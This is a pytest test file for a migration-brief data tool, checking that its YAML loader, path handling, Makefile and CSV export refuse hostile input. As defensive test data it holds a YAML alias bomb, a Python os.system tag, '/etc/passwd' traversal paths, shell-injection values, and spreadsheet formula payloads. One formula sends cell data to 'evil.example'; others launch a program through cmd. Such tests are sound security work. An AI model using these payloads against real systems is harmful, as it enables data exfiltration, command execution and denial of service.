"""Hostile or careless input never gets further than one located sentence: YAML that would
expand to gigabytes, tags, paths that leave their folder, repeated reference rows, look-alike
digits, characters no font prints, and make variables that try to reach the shell.
Each test reproduces one case that once got through."""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from migration_briefs import DataValidationError, load, paths
from migration_briefs.cli import main
from migration_briefs.paths import Project
from tests.projects import REPOSITORY

from .conftest import VALID_CONTRIBUTION

FILE = "data/contributions/un-women/2017.yaml"
SOURCE = "sources/un-women_15th-coordination-meeting_2017.yaml"


def line_of(text: str, fragment: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if fragment in line)


def problems_of(root: Path):
    with pytest.raises(DataValidationError) as caught:
        load(root)
    return caught.value.problems


def only_problem(root: Path):
    problems = problems_of(root)
    assert len(problems) == 1, [str(p) for p in problems]
    return problems[0]


def one_sentence(problem) -> None:
    """A message a person can act on: one line, no traceback, no absolute path."""
    for text in (problem.message, problem.hint):
        assert "\n" not in text and "Traceback" not in text and "/tmp" not in text and "/work" not in text


# --- YAML ---------------------------------------------------------------------------------

def billion_laughs(levels: int) -> str:
    lines = ['a0: &a0 "lol"']
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def test_yaml_aliases_are_refused_before_anything_expands(write_contribution):
    # Five levels expand to 10^5 strings: enough to notice, small enough never to hurt if it
    # regresses (nine levels took 11 GB).
    problem = only_problem(write_contribution(billion_laughs(5) + VALID_CONTRIBUTION))
    assert (problem.file, problem.line) == (FILE, 1)
    assert "anchor '&a0' is not allowed" in problem.message
    one_sentence(problem)


def test_a_yaml_alias_is_named_at_its_line(write_contribution):
    text = VALID_CONTRIBUTION.replace("    summary: A side event on the global compact.",
                                      "    summary: *elsewhere")
    problem = only_problem(write_contribution(text))
    assert (problem.file, problem.line) == (FILE, line_of(text, "*elsewhere"))
    assert "alias '*elsewhere' is not allowed" in problem.message


def test_a_yaml_merge_key_is_refused(write_contribution):
    text = VALID_CONTRIBUTION.replace("    kind: advocacy\n", "    kind: advocacy\n    <<: {status: done}\n")
    problem = only_problem(write_contribution(text))
    assert problem.line == line_of(text, "<<:")
    assert "merge key '<<'" in problem.message


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system", "!!binary", "!include", "!!str", "!!int"])
def test_a_yaml_tag_is_refused_by_name(write_contribution, tag):
    value = "[echo hello]" if "python" in tag else "aGVsbG8="
    text = VALID_CONTRIBUTION.replace("title: Host a side event", f"title: {tag} {value}")
    problem = only_problem(write_contribution(text))
    assert (problem.file, problem.line) == (FILE, line_of(text, tag))
    assert f"the YAML tag '{tag}' is not allowed" in problem.message
    assert "Input should be" not in problem.message


def test_a_duplicate_key_names_both_lines_not_indentation(write_contribution):
    text = VALID_CONTRIBUTION.replace("    summary: A side event on the global compact.\n",
                                      "    summary: A side event on the global compact.\n    title: Again\n")
    problem = only_problem(write_contribution(text))
    assert problem.line == line_of(text, "title: Again")
    assert problem.message == (f"the key 'title' is given twice in the same mapping "
                               f"(first on line {line_of(text, 'title: Host a side event')})")
    assert "indentation" not in problem.hint


def test_a_complex_key_is_refused(write_contribution):
    text = VALID_CONTRIBUTION.replace("    kind: advocacy\n", "    kind: advocacy\n    ? [a, b]\n    : x\n")
    problem = only_problem(write_contribution(text))
    assert problem.line == line_of(text, "? [a, b]")
    assert "not a name" in problem.message


def test_deep_nesting_is_refused_without_a_recursion_error(write_contribution):
    problem = only_problem(write_contribution("agency: " + "[" * 5000 + "\n"))
    assert (problem.file, problem.line) == (FILE, 1)
    assert "nested more than" in problem.message


def test_a_control_character_is_located(write_contribution):
    text = VALID_CONTRIBUTION.replace("title: Host a side event", 'title: "Host a\x01side event"')
    problem = only_problem(write_contribution(text))
    assert (problem.file, problem.line) == (FILE, line_of(text, "Host a\x01side"))
    assert "U+0001" in problem.message


def test_a_file_that_is_not_utf8_is_located(write_contribution, project):
    write_contribution()
    path = project / FILE
    text = VALID_CONTRIBUTION.replace("title: Host a side event", "title: Host a s\xe9de event")
    path.write_bytes(text.encode("latin-1"))
    problem = only_problem(project)
    assert (problem.file, problem.line) == (FILE, line_of(text, "Host a s"))
    assert "not UTF-8" in problem.message and "0xE9" in problem.message


def test_an_endless_number_is_refused(write_contribution):
    text = VALID_CONTRIBUTION.replace("    year: 2017\n    status: planned", f"    year: {'9' * 5000}\n    status: planned")
    problem = only_problem(write_contribution(text))
    assert problem.line == line_of(text, "99999")
    assert "too long" in problem.message


def test_a_value_error_shows_the_input_once(write_contribution):
    text = VALID_CONTRIBUTION.replace("    year: 2017\n    status: planned", "    year: twenty\n    status: planned")
    problem = only_problem(write_contribution(text))
    assert problem.message.count("'twenty'") == 1


# --- paths from the data -------------------------------------------------------------------

def with_source_text(write_contribution, value: str) -> Path:
    return write_contribution(VALID_CONTRIBUTION.replace(f"text: {SOURCE}", f"text: {value}"))


@pytest.mark.parametrize("value", ["../../../etc/passwd", "sources/../../../../etc/passwd", "reference/agencies.yaml",
                                   '"sources/a\\0.yaml"'])
def test_a_source_text_outside_data_sources_is_refused(write_contribution, value):
    root = with_source_text(write_contribution, value)
    problem = next(p for p in problems_of(root) if "not a path" in p.message)  # a NUL is also unprintable
    assert (problem.file, problem.line, problem.field) == (FILE, line_of(VALID_CONTRIBUTION, "text: sources/"),
                                                            "source.text")
    assert "is not a path inside data/sources/" in problem.message
    one_sentence(problem)


@pytest.mark.parametrize("where", ["elsewhere", "in data/sources"])
def test_an_absolute_source_text_is_refused_wherever_it_leads(write_contribution, project, tmp_path, where):
    """An absolute path names a file of one checkout only: a clone elsewhere would lose its source."""
    if where == "elsewhere":
        absolute = tmp_path / "elsewhere" / "copy.yaml"
        absolute.parent.mkdir()
        shutil.copy(paths.SOURCES_DIR / Path(SOURCE).name, absolute)
    else:
        absolute = (project / "data" / SOURCE).resolve()
    problem = only_problem(with_source_text(write_contribution, str(absolute)))
    assert (problem.file, problem.field) == (FILE, "source.text") and "is an absolute path" in problem.message
    assert problem.hint == "give the path relative to data/, e.g. sources/<name>.yaml"


def test_a_contribution_folder_that_is_a_link_is_refused_naming_the_file_in_data(write_contribution, project,
                                                                                   tmp_path):
    outside = tmp_path / "outside"
    shutil.copytree(project / "data" / "contributions" / "un-women", outside)
    write_contribution()
    shutil.move(project / "data" / "contributions" / "un-women" / "2017.yaml", outside / "2017.yaml")
    shutil.rmtree(project / "data" / "contributions" / "un-women")
    (project / "data" / "contributions" / "un-women").symlink_to(outside, target_is_directory=True)
    problem = only_problem(project)
    assert problem.file == FILE and problem.message == ("it is in data/contributions/un-women, which is a symbolic "
                                                        "link to a folder")
    one_sentence(problem)


def test_a_linked_data_file_is_named_as_it_stands_in_data(write_contribution, project, tmp_path):
    write_contribution()
    contribution = project / FILE
    shutil.move(contribution, tmp_path / "kept-elsewhere.yaml")
    contribution.symlink_to(tmp_path / "kept-elsewhere.yaml")
    problem = only_problem(project)
    assert (problem.file, problem.message) == (FILE, "it is a symbolic link, not a regular file")


def test_a_source_text_linked_from_outside_is_refused(write_contribution, project, tmp_path):
    outside = tmp_path / "outside.yaml"
    shutil.copy(paths.SOURCES_DIR / Path(SOURCE).name, outside)
    (project / "data" / "sources" / "linked.yaml").symlink_to(outside)
    problem = only_problem(with_source_text(write_contribution, "sources/linked.yaml"))
    assert problem.field == "source.text" and "not a path inside data/sources/" in problem.message


# --- reference tables ---------------------------------------------------------------------

def test_a_repeated_agency_code_is_refused(write_contribution, project):
    agencies = project / "data" / "reference" / "agencies.yaml"
    text = agencies.read_text(encoding="utf-8")
    text += "  - code: un-women\n    abbreviation: UNW\n    name: Somebody else\n"
    agencies.write_text(text, encoding="utf-8")
    problem = only_problem(write_contribution())
    first = line_of(text, "- code: un-women")
    second = len(text.splitlines()) - 2
    index = text.count("  - code: ") - 1
    assert (problem.file, problem.line, problem.field) == ("data/reference/agencies.yaml", second,
                                                            f"agencies[{index}].code")
    assert problem.message == f"code 'un-women' is already used on line {first}"


def test_a_repeated_csv_row_is_refused(write_contribution, project):
    countries = project / "data" / "reference" / "countries.csv"
    lines = countries.read_text(encoding="utf-8").splitlines()
    first = next(i for i, line in enumerate(lines, 1) if line.startswith("MEX,"))
    lines.append("MEX,MX,Somewhere else")
    countries.write_text("\n".join(lines) + "\n", encoding="utf-8")
    problem = only_problem(write_contribution())
    assert (problem.file, problem.line) == ("data/reference/countries.csv", len(lines))
    assert problem.message == f"alpha3 'MEX' is already used on line {first}"


def test_a_repeated_vocabulary_code_is_refused(write_contribution, project):
    vocabularies = project / "data" / "reference" / "vocabularies.yaml"
    text = vocabularies.read_text(encoding="utf-8").replace(
        "statuses:\n", "statuses:\n  - code: done\n    label: Finished\n    plural: finished\n    description: Twice.\n", 1)
    vocabularies.write_text(text, encoding="utf-8")
    problem = only_problem(write_contribution())
    assert problem.file == "data/reference/vocabularies.yaml" and problem.field.startswith("statuses[")
    assert "code 'done' is already used on line" in problem.message


def test_a_reference_table_without_its_list_is_located(write_contribution, project):
    (project / "data" / "reference" / "agencies.yaml").write_text("agencies:\n", encoding="utf-8")
    problem = only_problem(write_contribution())
    assert (problem.file, problem.line) == ("data/reference/agencies.yaml", 1)
    assert "expected a list under 'agencies:'" in problem.message


def test_a_broken_csv_table_is_located(write_contribution, project):
    countries = project / "data" / "reference" / "countries.csv"
    text = countries.read_text(encoding="utf-8") + "ZZZ,ZZ," + "x" * 200_000 + "\n"
    countries.write_text(text, encoding="utf-8")
    problem = only_problem(write_contribution())
    assert (problem.file, problem.line) == ("data/reference/countries.csv", len(text.splitlines()))
    assert "not valid CSV (field larger than field limit" in problem.message
    one_sentence(problem)


def test_validate_prints_sentences_not_tracebacks(write_contribution, monkeypatch, capsys):
    root = write_contribution(billion_laughs(3) + VALID_CONTRIBUTION.replace(
        "title: Host a side event", "title: !!binary aGVsbG8="))
    monkeypatch.setattr("migration_briefs.paths.PROJECT", Project(root))
    assert main(["validate"]) == 1
    err = capsys.readouterr().err
    assert f"{FILE}:1: the anchor '&a0' is not allowed in data files" in err
    assert "Traceback" not in err


# --- digits ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def dataset():
    return load()


@pytest.mark.parametrize("year", ["２０１６", "٢٠١٦", "2_016", "+2016"])
def test_only_ascii_digits_make_a_year(dataset, year):
    from migration_briefs.errors import ParameterError
    from migration_briefs.model.params import check_year
    with pytest.raises(ParameterError, match=r"is not a year \(write it with the digits 0-9\)"):
        check_year(dataset, year)
    assert check_year(dataset, " 2016 ") == check_year(dataset, 2016) == 2016


def test_only_ascii_digits_make_a_goal(dataset):
    from migration_briefs.errors import ParameterError
    from migration_briefs.model.params import BriefSpec, check_goal
    with pytest.raises(ParameterError):
        check_goal(dataset, "５")
    with pytest.raises(ParameterError, match="cannot name a brief"):  # a spec read back from the manifest
        BriefSpec("un-women", 2016, "goal_brief", "goal-5", "goal", (("goal", "５"),))


def test_only_ascii_digits_make_a_date(write_contribution):
    text = VALID_CONTRIBUTION.replace("date: 2016-08", "date: ２０１６-08")
    problem = only_problem(write_contribution(text))
    assert (problem.field, problem.line) == ("items[0].events[0].date", line_of(text, "date: ２０１６"))


# --- make ---------------------------------------------------------------------------------
# Real make on a scratch copy of the Makefile, with a stand-in .venv whose `briefs` only
# writes down the arguments it was given: no environment is installed and nothing is built.

MARKER = "injected"
HOSTILE = f"5; touch {MARKER} #"


@pytest.fixture
def scratch_make(tmp_path: Path) -> Path:
    for name in ("Makefile", "requirements.lock", "pyproject.toml"):
        shutil.copy(REPOSITORY / name, tmp_path / name)
    bin_dir = tmp_path / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    for tool, body in [("python", "exit 0"), ("briefs", "printf '%s\\n' \"$@\" > arguments")]:
        (bin_dir / tool).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / tool).chmod(0o755)
    return tmp_path


def make(root: Path, *arguments: str, env: dict | None = None) -> subprocess.CompletedProcess:
    environment = {"PATH": os.environ["PATH"], **(env or {})}
    return subprocess.run(["make", "--no-print-directory", *arguments], cwd=root, capture_output=True, text=True,
                          env=environment, timeout=60)


@pytest.mark.parametrize("variable, target, option", [
    ("GOAL", "briefs", "--goal"), ("YEAR", "list", "--year"), ("AGENCY", "html", "--agency"),
    ("MECHANISM", "pdf", "--mechanism"), ("JOBS", "briefs", "--jobs")])
def test_make_passes_a_hostile_value_as_one_argument(scratch_make, variable, target, option):
    result = make(scratch_make, target, f"{variable}={HOSTILE}")
    assert result.returncode == 0, result.stderr
    assert not (scratch_make / MARKER).exists()
    arguments = (scratch_make / "arguments").read_text().splitlines()
    assert arguments[arguments.index(option) + 1] == HOSTILE


@pytest.mark.parametrize("target, settings, expected", [
    ("briefs", {"COUNTRY": HOSTILE}, ["--country", HOSTILE]),
    ("import-source", {"FILE": HOSTILE, "NAME": HOSTILE}, ["import-source", "--name", HOSTILE, "--", HOSTILE]),
    ("draft", {"AGENCY": HOSTILE, "MEETING": HOSTILE, "SOURCE": HOSTILE},
     ["draft", "--source", HOSTILE, "--agency", HOSTILE, "--meeting", HOSTILE]),
    ("draft", {"AGENCY": HOSTILE, "YEAR": HOSTILE, "SOURCE": HOSTILE},  # as it once took the meeting's year
     ["draft", "--source", HOSTILE, "--agency", HOSTILE, "--year", HOSTILE]),
    ("coverage", {"MEETING": HOSTILE}, ["coverage", "--meeting", HOSTILE]),
    ("suggest-targets", {"FILE": HOSTILE}, ["suggest-targets", "--", HOSTILE]),
    ("import-source", {"FILE": "-h"}, ["import-source", "--", "-h"]),  # a file, not a request for help
    ("suggest-targets", {"FILE": "--help"}, ["suggest-targets", "--", "--help"]),
    ("coverage", {"AGENCY": HOSTILE}, ["coverage", "--agency", HOSTILE]),
])
def test_make_passes_hostile_values_to_every_target_as_one_argument_each(scratch_make, target, settings, expected):
    result = make(scratch_make, target, *(f"{name}={value}" for name, value in settings.items()))
    assert result.returncode == 0, result.stderr
    assert not (scratch_make / MARKER).exists()
    arguments = (scratch_make / "arguments").read_text().splitlines()
    assert arguments[arguments.index(expected[0]):][:len(expected)] == expected


@pytest.mark.parametrize("target", ["briefs", "html", "pdf", "list", "preview"])
def test_a_meeting_narrows_no_build_and_make_says_to_give_the_year_of_the_work(scratch_make, target):
    result = make(scratch_make, target, "MEETING=2017")
    assert result.returncode == 2
    assert result.stderr.startswith("MEETING= does not narrow a build: give YEAR=, the year of the work")
    assert not (scratch_make / "arguments").exists()


def test_the_review_takes_year_as_the_meetings_unless_meeting_says_otherwise(scratch_make):
    result = make(scratch_make, "review", "AGENCY=iom", "YEAR=2017", "MEETING=2018")
    assert result.returncode == 2
    assert "give the meeting's year once, as MEETING=" in result.stderr
    shown = make(scratch_make, "-n", "review", "AGENCY=iom", "YEAR=2017")
    assert "MIGRATION_BRIEFS_REVIEW='iom'/'2017'" in shown.stdout


def test_make_passes_a_hostile_python_as_one_word(scratch_make):
    result = make(scratch_make, "lock", f"PYTHON=python3; touch {MARKER} #")
    assert result.returncode != 0
    assert not (scratch_make / MARKER).exists()


@pytest.mark.parametrize("target, variable", [("briefs", "GOAL"), ("import-source", "FILE")])
@pytest.mark.parametrize("how", ["command line", "environment"])
def test_make_never_runs_a_function_written_in_a_value(scratch_make, how, target, variable):
    value = f"$(shell touch {MARKER})"
    result = (make(scratch_make, target, f"{variable}={value}") if how == "command line"
              else make(scratch_make, target, env={variable: value}))
    assert result.returncode == 0, result.stderr
    assert not (scratch_make / MARKER).exists()
    assert value in (scratch_make / "arguments").read_text().splitlines()


@pytest.mark.parametrize("value", [f"5'; touch {MARKER}; '", '5"', f"5\ntouch {MARKER}"])
def test_make_refuses_a_value_with_a_quote_or_a_line_break(scratch_make, value):
    result = make(scratch_make, "briefs", f"GOAL={value}")
    assert result.returncode != 0
    assert "GOAL contains a quote or a line break" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not (scratch_make / MARKER).exists() and not (scratch_make / "arguments").exists()


def test_make_help_still_lists_the_targets(scratch_make):
    result = make(scratch_make, "help")
    assert result.returncode == 0
    assert "make briefs" in result.stdout and "make validate" in result.stdout


# --- characters no font prints --------------------------------------------------------------

UN_LANGUAGES = {"ar": "الهجرة الدولية", "zh": "国际移民协调会议", "en": "International migration",
                "fr": "Migrations internationales : l’égalité", "ru": "Международная миграция",
                "es": "Migración internacional y género"}


def test_the_six_un_languages_are_printable():
    from migration_briefs.fonts import uncovered
    for language, text in UN_LANGUAGES.items():
        assert uncovered(text) == [], language


@pytest.mark.parametrize("text, refused", [
    ("Side event 😀", ["😀"]),                 # no font has it
    ("Side event ❤️", ["\ufe0f"]),             # DejaVu draws ❤, but not as an emoji
    ("Private \ue000 use", ["\ue000"]),
    ("Fine: «é», —, 1 000, ¶ 12", []),
])
def test_uncovered_names_what_no_font_prints(text, refused):
    from migration_briefs.fonts import uncovered
    assert uncovered(text) == refused


def test_an_emoji_in_a_contribution_is_located(write_contribution):
    text = VALID_CONTRIBUTION.replace("title: Host a side event", "title: Host a side event 😀")
    problem = only_problem(write_contribution(text))
    assert (problem.file, problem.line, problem.field) == (FILE, line_of(text, "side event 😀"), "items[1].title")
    assert "U+1F600 GRINNING FACE" in problem.message
    assert "replace it" in problem.hint and "add a font" in problem.hint


def test_every_un_language_loads_from_a_contribution(write_contribution):
    summary = " / ".join(UN_LANGUAGES.values())
    text = VALID_CONTRIBUTION.replace("summary: A side event on the global compact.", f'summary: "{summary}"')
    [record] = [r for r in load(write_contribution(text)).items() if r.item.id == "second-item"]
    assert record.item.summary == summary


def test_an_unprintable_character_in_a_source_text_is_located(write_contribution, project):
    source = project / "data" / SOURCE
    text = source.read_text(encoding="utf-8")
    source.write_text(text.replace("FIFTEENTH COORDINATION MEETING", "FIFTEENTH 🙂 MEETING", 1), encoding="utf-8")
    problem = only_problem(write_contribution())
    assert (problem.file, problem.field) == (f"data/{SOURCE}", "paragraphs[0].text")
    assert problem.line == line_of(text, "FIFTEENTH COORDINATION MEETING") - 1  # the line of `text: >-`
    assert "U+1F642 SLIGHTLY SMILING FACE" in problem.message


def test_an_unprintable_character_in_a_reference_table_is_located(write_contribution, project):
    countries = project / "data" / "reference" / "countries.csv"
    lines = countries.read_text(encoding="utf-8").splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith("MEX,"))
    lines[index] = "MEX,MX,Mexico \U0001F1F2\U0001F1FD"
    countries.write_text("\n".join(lines) + "\n", encoding="utf-8")
    problem = only_problem(write_contribution())
    assert (problem.file, problem.line, problem.field) == ("data/reference/countries.csv", index + 1,
                                                            f"row {index + 1}.name")
    assert "U+1F1F2 REGIONAL INDICATOR SYMBOL LETTER M" in problem.message


def test_a_brief_whose_own_text_has_an_unprintable_character_fails_naming_the_cell():
    from nbformat.v4 import new_code_cell, new_output

    from migration_briefs.render.exporters import BriefRenderError, export_html

    from .test_render import make_notebook
    cell = new_code_cell("brief.section('x')", execution_count=6, outputs=[new_output(
        "display_data", data={"text/html": '<section><h2 id="x">Done 👍</h2></section>'})])
    nb = make_notebook(extra_cells=[cell])
    with pytest.raises(BriefRenderError) as caught:
        export_html(nb)
    assert caught.value.cell_index == len(nb.cells) - 1
    assert "U+1F44D THUMBS UP SIGN" in caught.value.message


def test_a_brief_title_with_an_unprintable_character_fails():
    from migration_briefs.render.exporters import BriefRenderError, export_html

    from .test_render import META, make_notebook
    with pytest.raises(BriefRenderError) as caught:
        export_html(make_notebook(meta={**META, "title": "Goal 5 ✅"}))
    assert "'title'" in caught.value.message and "U+2705" in caught.value.message


def pdf_fonts(pdf: bytes) -> set[str]:
    import io

    import pypdf
    names = set()
    for page in pypdf.PdfReader(io.BytesIO(pdf)).pages:
        for font in page["/Resources"].get("/Font", {}).values():
            names.add(str(font.get_object()["/BaseFont"]).split("+", 1)[-1])
    return names


@pytest.mark.slow
def test_the_pdf_prints_every_un_language_in_the_bundled_fonts_only(tmp_path):
    import sys

    from migration_briefs.render.exporters import export_html, html_to_pdf

    from .test_render import make_notebook
    paragraphs = "".join(f'<p lang="{language}">{text}</p>' for language, text in UN_LANGUAGES.items())
    html = export_html(make_notebook()).replace('<main id="content">', f'<main id="content">{paragraphs}', 1)
    pdf = html_to_pdf(html)
    names = pdf_fonts(pdf)
    assert "Brief-CJK" in names and "Brief-Sans" in names
    assert all(name.startswith("Brief-") for name in names), names
    # The same bytes from a fresh process (new font configuration, new hash seed).
    (tmp_path / "brief.html").write_text(html, encoding="utf-8")
    code = ("import sys; from pathlib import Path; from migration_briefs.render.exporters import html_to_pdf; "
            "sys.stdout.buffer.write(html_to_pdf(Path('brief.html').read_text(encoding='utf-8')))")
    again = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, check=True,
                           env={**os.environ, "PYTHONHASHSEED": "4321"}, timeout=300).stdout
    assert again == pdf


def test_charts_draw_chinese_in_the_bundled_font_not_as_boxes(caplog):
    import io
    import warnings

    import matplotlib
    from matplotlib.figure import Figure
    from matplotlib.font_manager import FontProperties, fontManager

    from migration_briefs import fonts
    from migration_briefs.briefs import charts
    style = charts._style()

    def draw(families: list[str]) -> None:
        with matplotlib.rc_context({**style, "font.family": families}):
            figure = Figure(figsize=(2, 0.5))
            figure.text(0.05, 0.3, "国际移民 Migration", fontsize=12)
            figure.text(0.05, 0.7, "移民 bold", fontsize=12, fontweight="bold")
            figure.savefig(io.BytesIO(), format="png", dpi=50)

    with pytest.warns(UserWarning, match="missing from font"):  # what a box used to look like
        draw(["DejaVu Sans"])
    caplog.clear()
    fontManager._findfont_cached.cache_clear()  # matplotlib logs a font problem once per lookup
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        draw(style["font.family"])
    assert not [r for r in caplog.records if "findfont" in r.getMessage()]  # logged once per process
    assert style["font.family"] == fonts.matplotlib_families()  # the house style names fonts.py's fonts
    used = fontManager._find_fonts_by_props(FontProperties(family=style["font.family"]))
    assert [Path(p).name for p in used] == ["DejaVuSans.ttf", "NotoSansSC-Regular.otf"]
    assert {Path(p).parent for p in used} == {path.parent for _, path in fonts.faces()}


# --- CSV cells a spreadsheet would run ---------------------------------------------------------

@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
                                     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_csv_cells_that_start_a_formula_are_written_as_text(write_contribution, payload):
    import csv
    import io

    from migration_briefs import load
    from migration_briefs.briefs.overview import overview_brief
    escaped = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    root = write_contribution(VALID_CONTRIBUTION.replace("title: Chaired the Global Migration Group",
                                                         f'title: "{escaped}"')
                              .replace("summary: UN Women chaired the inter-agency group in 2016.",
                                       f'summary: "{escaped}"'))
    tables = {t["name"]: t["csv"] for t in overview_brief(2016, "un-women", load(root)).data_tables()}
    rows = list(csv.DictReader(io.StringIO(tables["items"], newline="")))
    assert rows[0]["title"] == rows[0]["summary"] == "'" + payload.strip()  # the model trims text fields
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for name in tables
               for row in csv.reader(io.StringIO(tables[name], newline="")) for cell in row)


@pytest.mark.parametrize("value, written", [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-3", "'-3"),
                                            ("Plain text", "Plain text"), ("a=b", "a=b"), (2016, 2016)])
def test_the_spreadsheet_rule_covers_every_formula_start(value, written):
    from migration_briefs.briefs.base import spreadsheet_safe
    assert spreadsheet_safe(value) == written


# --- exit codes through pipes; make settings that are not settings ------------------------------

@pytest.mark.parametrize("bad", [False, True])
def test_validate_piped_into_a_closed_reader_keeps_its_exit_code(write_contribution, bad):
    root = write_contribution(VALID_CONTRIBUTION.replace("status: done", "status: finished") if bad
                              else VALID_CONTRIBUTION)
    read, write = os.pipe()
    os.close(read)
    try:
        result = subprocess.run([sys.executable, "-m", "migration_briefs.cli", "validate"], stdout=write,
                                stderr=subprocess.PIPE, text=True, timeout=120,
                                env={**os.environ, "MIGRATION_BRIEFS_ROOT": str(root)})
    finally:
        os.close(write)
    assert result.returncode == (1 if bad else 0), result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("variable", ["FILTERS", "SETTINGS", "quoted", "option", "as_written", "BRIEFS"])
@pytest.mark.parametrize("value", [f"--goal 5; touch {MARKER} #", f"$(shell touch {MARKER})"])
def test_make_never_takes_what_its_recipes_are_made_of_from_the_command_line(scratch_make, variable, value):
    result = make(scratch_make, "briefs", "GOAL=5", f"{variable}={value}")
    assert not (scratch_make / MARKER).exists()
    assert result.returncode == 0, result.stderr
    arguments = (scratch_make / "arguments").read_text().splitlines()
    assert arguments[:3] == ["build", "--goal", "5"]


def test_make_passes_a_hostile_cell_timeout_as_one_argument(scratch_make):
    result = make(scratch_make, "html", f"CELL_TIMEOUT={HOSTILE}")
    assert result.returncode == 0 and not (scratch_make / MARKER).exists()
    arguments = (scratch_make / "arguments").read_text().splitlines()
    assert arguments[arguments.index("--cell-timeout") + 1] == HOSTILE


@pytest.mark.parametrize("field, size", [("summary", 5 * 2**20), ("title", 200), ("summary", 20_010)])
def test_text_fields_have_a_length_limit_and_the_problem_is_short(write_contribution, field, size):
    old = {"summary": "summary: UN Women chaired the inter-agency group in 2016.",
           "title": "title: Chaired the Global Migration Group"}[field]
    problem = only_problem(write_contribution(VALID_CONTRIBUTION.replace(old, f"{field}: {'word ' * (size // 5)}")))
    assert problem.field == f"items[0].{field}" and "at most" in problem.message
    assert len(str(problem)) < 400


def test_validate_parses_each_contribution_once(write_contribution, project_paths, monkeypatch, capsys):
    from migration_briefs.model import yaml_source
    write_contribution()
    parsed = []
    real = yaml_source._parse_yaml
    monkeypatch.setattr(yaml_source, "_PARSED", {})
    monkeypatch.setattr(yaml_source, "_parse_yaml", lambda path, root: parsed.append(path.name) or real(path, root))
    assert main(["validate"]) == 0
    assert parsed.count("2017.yaml") == 1, parsed
    contribution = project_paths / "data" / "contributions" / "un-women" / "2017.yaml"
    contribution.write_text(contribution.read_text().replace("status: done", "status: finished"))
    assert main(["validate"]) == 1  # an edited file is parsed again
    assert parsed.count("2017.yaml") == 2


def test_validate_parses_each_file_once_however_many_files_there_are(tmp_path, monkeypatch):
    """More files than the parse cache once kept (64): loaded, then read again for coverage, as
    `briefs validate` does."""
    from collections import Counter

    from bench.corpus import write_corpus
    from migration_briefs.model import yaml_source
    from migration_briefs.sources.coverage import coverage
    root = write_corpus(tmp_path / "corpus", agencies=20)
    parsed = Counter()
    real = yaml_source._parse_yaml
    monkeypatch.setattr(yaml_source, "_PARSED", {})
    monkeypatch.setattr(yaml_source, "_parse_yaml", lambda path, project: parsed.update([path]) or real(path, project))
    load(root)
    coverage(root)
    assert len(parsed) > 64 and set(parsed.values()) == {1}, parsed.most_common(3)


def test_a_source_text_no_contribution_cites_yet_is_validated_too(write_contribution, project):
    root = write_contribution()
    (project / "data" / "sources" / "new-paper.yaml").write_text(
        "title: A paper\ntitle: Imported twice\norigin: Somewhere\nparagraphs: []\n", encoding="utf-8")
    problem = only_problem(root)
    assert problem.file == "data/sources/new-paper.yaml" and problem.line == 2
